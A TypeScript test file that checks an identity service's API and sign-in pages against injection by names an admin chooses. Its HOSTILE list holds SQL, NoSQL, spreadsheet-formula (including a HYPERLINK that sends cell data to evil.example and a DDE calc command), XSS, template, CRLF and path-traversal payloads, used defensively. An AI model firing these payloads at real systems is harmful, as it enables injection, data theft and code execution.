import { beforeAll, beforeEach, expect, test } from 'vitest'
import { describeDeployment } from '../deployments.ts'
import { createPerson, type Page } from '../oauth/people.ts'
import { visit } from '../sign-in/at.ts'
import { rawText, tags, text } from '../sign-in/markup.ts'
import { type Caller, startDeployment, type TestDeployment } from '../start.ts'
import { createTenant, type TestTenant } from '../tenants.ts'

/** Names that mean something to a database, a query language, a spreadsheet, a template, a browser. */
const HOSTILE = [
  "Robert'); DROP TABLE client;--",
  "' OR '1'='1",
  '%',
  '_',
  '\\',
  '\\%',
  '*',
  '{"$ne":null}',
  '{"$gt":""}',
  '$where: sleep(1000)',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;b&gt;&#x3c;',
  '</title></textarea><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '#{7*7}{{7*7}}<%= 7*7 %>',
  '%0d%0aSet-Cookie: a=b',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '\u200fplain',
]

const REFUSED = [
  'a\u0000b',
  'a\r\nSet-Cookie: a=b',
  'a\tb',
  '\u001b[2J',
  'a\u007fb',
  'exe.\u202egnp',
  'a\u2066b',
  'a\u2028b',
]

describeDeployment('database', 'names', (open) => {
  let deployment: TestDeployment
  let live: Caller
  let tenant: TestTenant
  let admin: string

  beforeAll(async () => {
    deployment = await startDeployment(open)
    live = deployment.nodes[0].at('live')
  })
  beforeEach(async () => {
    tenant = await createTenant(deployment)
    admin = tenant.keys.live.api_key
  })

  const redirect_uris = ['https://app.example/callback']
  let count = 0
  /** Whatever has a name that an admin chooses, and where it is listed. */
  const NAMED: [string, (name: string) => [path: string, body: object]][] = [
    ['/v1/api-keys', (name) => ['/v1/api-keys', { kind: 'standard', name, description: name }]],
    ['/v1/service-users', (name) => ['/v1/service-users', { name, role: 'viewer' }]],
    ['/v1/teams', (name) => ['/v1/teams', { name }]],
    ['/v1/apps', (name) => ['/v1/apps', { name, type: 'public', redirect_uris }]],
    [
      '/v1/resources',
      (name) => ['/v1/resources', { name, identifier: `https://r${++count}.example`, scopes: ['a:b'] }],
    ],
    [
      '/v1/workload-providers',
      (name) => [
        '/v1/workload-providers',
        { name, platform: 'oidc', issuer: `https://i${++count}.example`, audiences: ['a'] },
      ],
    ],
  ]

  test.each(NAMED)('%s: they are kept and shown to the letter, as data [attack 76]', async (list, creation) => {
    // All of them at one list; the others share its fields.
    const hostile = HOSTILE.filter((_, at) => list === '/v1/api-keys' || at % 3 === 0)
    for (const name of hostile) {
      const { status, body: made } = await live.api('POST', creation(name)[0], admin, creation(name)[1])
      expect([name, status, made.name]).toEqual([name, 201, name])
      const shown = await live.api('GET', `${list}/${made.id}`, admin)
      expect(shown.body.name).toBe(name)
      expect(shown.headers).toMatchObject({
        'content-type': expect.stringMatching(/^application\/json/),
        'x-content-type-options': 'nosniff',
      })
      expect(shown.headers).not.toHaveProperty('set-cookie')
    }
    const { body } = await live.api('GET', `${list}?limit=100`, admin)
    const names = body.data.map((each: { name: string }) => each.name)
    expect(names.filter((name: string) => HOSTILE.includes(name)).sort()).toEqual(hostile.toSorted())
    // The log is exported as JSON alone: no spreadsheet takes a name for a formula.
    const log = await live.api('GET', '/v1/audit-logs?limit=100', admin).set('accept', 'text/csv, application/csv')
    expect(log.headers['content-type']).toMatch(/^application\/json/)
    const logged = log.body.data.flatMap(({ details }: { details: { name?: string } }) => details.name ?? [])
    // That of a resource has its identifier.
    if (list !== '/v1/resources') expect(logged).toEqual(expect.arrayContaining(hostile))
  })

  test.each(NAMED)(
    '%s: control characters and changes of direction are refused [attack 76]',
    async (list, creation) => {
      for (const name of REFUSED) {
        const answer = await live.api('POST', creation(name)[0], admin, creation(name)[1])
        expect([JSON.stringify(name), answer.status]).toEqual([JSON.stringify(name), 422])
        expect(answer.text).not.toContain(name)
      }
      const { body } = await live.api('GET', `${list}?limit=100`, admin)
      expect(body.data.filter((each: { name: string }) => each.name !== 'Full access')).toEqual([])
    },
  )

  test('the audit log as lines is one entry per line, whatever is in it [attack 76]', async () => {
    for (const name of HOSTILE) await live.api('POST', '/v1/api-keys', admin, { kind: 'public', name })
    const call = live.api('GET', '/v1/audit-logs?action=api_key.created', admin).set('accept', 'application/x-ndjson')
    const answer = await call.buffer(true).parse((response, done) => {
      let all = ''
      response.setEncoding('utf8')
      response.on('data', (chunk) => {
        all += chunk
      })
      response.on('end', () => done(null, all))
    })
    const lines = (answer.body as string).trim().split('\n')
    const names = lines.map((line) => JSON.parse(line).details.name)
    expect(names.filter((name) => HOSTILE.includes(name)).reverse()).toEqual(HOSTILE)
  })

  test('what is searched for is found by its letters, never as a pattern or condition [attack 76]', async () => {
    for (const name of HOSTILE) {
      expect((await live.api('POST', '/v1/api-keys', admin, { kind: 'public', name })).status).toBe(201)
      const app = { name, type: 'public', redirect_uris }
      expect((await live.api('POST', '/v1/apps', admin, app)).status).toBe(201)
    }
    for (const list of ['/v1/api-keys', '/v1/apps']) {
      for (const searched of [...HOSTILE, 'no such name', "'", '%%', '__', '.*', 'NULL']) {
        const query = new URLSearchParams({ limit: '100', search: searched })
        const { status, body } = await live.api('GET', `${list}?${query}`, admin)
        expect(status).toBe(200)
        const found = body.data
          .map((each: { name: string }) => each.name)
          .filter((name: string) => name !== 'Full access')
        const expected = HOSTILE.filter((name) => name.toLowerCase().includes(searched.toLowerCase()))
        expect([searched, found.sort()]).toEqual([searched, expected.sort()])
      }
      for (const query of ['search[$ne]=x', 'search=a&search=b', 'name=x', 'search.contains=x', '__proto__=x']) {
        expect([query, (await live.api('GET', `${list}?${query}`, admin)).status]).toEqual([query, 422])
      }
    }
    for (const filter of ['actor', 'action', 'target']) {
      for (const value of HOSTILE) {
        const query = new URLSearchParams({ [filter]: value })
        const { status, body } = await live.api('GET', `/v1/audit-logs?${query}`, admin)
        expect([filter, value, status, body.data]).toEqual([filter, value, 200, []])
      }
    }
  })

  test("on people's pages they are text: an app's, a token's, a tenant's [attack 76]", async () => {
    const names = HOSTILE.filter((name) => /[<>&"']|^javascript:/.test(name))
    const own = '</title><script>alert(2)</script>'
    await deployment.storage.database.tenant.update({ where: { id: tenant.id }, data: { name: own } })
    const visitor = visit(live, await createPerson(deployment, { tenantId: tenant.id }))
    await visitor.account()
    const expectText = (page: Page, ...shown: string[]) => {
      for (const name of [own, ...shown]) expect(text(page.text)).toContain(name.replace(/\s+/g, ' '))
      expect(rawText(page.text)).not.toMatch(/[<>"']/)
      expect(tags(page.text).filter(({ name: tag }) => ['img', 'iframe', 'b'].includes(tag))).toEqual([])
      for (const { name: tag, closes, attributes } of tags(page.text)) {
        if (tag === 'script' && !closes) expect(attributes.src).toMatch(/^\/sign-in\/[a-z-]+\.js$/)
        expect(Object.keys(attributes).filter((each) => each.startsWith('on'))).toEqual([])
        if (attributes.href !== undefined) expect(attributes.href).not.toMatch(/^javascript:/i)
      }
    }
    for (const name of names) {
      const { body: app } = await live.api('POST', '/v1/apps', admin, { name, type: 'public', redirect_uris })
      expectText(await visit(live, { email: '', password: '' }).at(app), name)
      const consent = await visitor.at(app)
      expect(consent.text).toContain('name="decision"')
      expectText(consent, name)
      await visitor.submit(consent, /\/consent$/, { decision: 'allow' })
      const account = await visitor.open('/account')
      expectText(await visitor.submit(account, /\/tokens\/make$/, { name, days: '7', everything: 'yes' }), name)
    }
    expectText(await visitor.open('/account'), ...names)
  }, 60_000)
})
